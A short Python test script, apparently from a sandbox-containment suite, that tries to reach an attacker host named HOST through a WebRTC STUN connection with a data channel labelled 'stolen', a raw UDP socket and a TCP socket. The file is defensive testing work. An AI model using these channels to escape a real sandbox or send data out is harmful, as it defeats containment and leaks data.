from attack import HOST, attempt, world


def call():
    servers = {"iceServers": [{"urls": f"stun:{HOST}"}]}
    return world.RTCPeerConnection.new(servers).createDataChannel("stolen")


attempt("RTCPeerConnection", call)
attempt("a UDP socket", lambda: world.UDPSocket.new())
attempt("a TCP socket", lambda: world.TCPSocket.new(HOST, 80))
